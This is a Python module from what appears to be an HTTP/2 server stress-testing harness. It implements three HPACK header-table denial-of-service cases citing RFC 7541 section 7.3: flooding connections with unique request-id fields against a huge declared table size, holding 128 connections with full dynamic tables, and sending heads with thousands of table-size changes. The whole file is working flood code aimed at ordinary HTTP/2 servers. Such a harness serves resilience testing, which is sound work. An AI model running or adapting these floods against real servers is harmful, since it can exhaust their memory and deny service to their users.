"""Tables of fields: the client's own, which it declares to be huge for the program's responses, and
the one that it fills with every request, or resizes at full speed."""

from lib.attack import HTTP2, Attack, Case
from lib.frames import TABLE_SIZE, get, integer, literal, request, stored

CONNECTIONS = 16
HELD = 128
BURST = 20
HUGE = (1 << 32) - 1
TABLE = 4096


def of_responses(attacker):
    """Requests whose responses differ in a field that would enter the table: the request's id."""
    sent = 0

    def burst(wire, _):
        nonlocal sent
        pieces = []
        for stream in wire.streams(BURST):
            sent += 1
            pieces.append(request(stream, get(fields=literal(b"x-request-id", b"%0128d" % sent))))
        return b"".join(pieces)

    def begin(at):
        return attacker.http2((TABLE_SIZE, HUGE), at=at)

    attacker.flood(CONNECTIONS, begin, burst, "requests", BURST)


def of_requests(attacker):
    """Fills the table of each connection, with many small entries and then with one large one."""
    small = b"".join(stored(b"%02x" % number, b"") for number in range(TABLE // 34))
    large = stored(b"x", b"v" * (TABLE - 33))

    def begin(at):
        wire = attacker.http2(at=at)
        if wire:
            attacker.count("tables")
        return wire

    def both(wire, _):
        # the tables stay full without many requests
        attacker.pause(0.001)
        first, second = wire.streams(2)
        return request(first, get(fields=large)) + request(second, get(fields=small))

    attacker.flood(HELD, begin, both, "requests", 2)


def sizes(attacker):
    """Heads that begin with thousands of changes of the table's size."""
    change = integer(0, 5, 0x20) + integer(TABLE, 5, 0x20)
    head = change * 1_000 + get()

    def burst(wire, _):
        return b"".join(request(stream, head) for stream in wire.streams(BURST))

    attacker.flood(CONNECTIONS, lambda at: attacker.http2(at=at), burst, "requests", BURST)


ATTACK = Attack(
    title="large header tables",
    published="RFC 7541, section 7.3",
    cases=(
        Case("of responses", HTTP2, of_responses, {"requests": 3_000}, is_long=True),
        Case("of requests", HTTP2, of_requests, {"tables": HELD}),
        Case("sizes that change", HTTP2, sizes, {"requests": 2_000}),
    ),
)
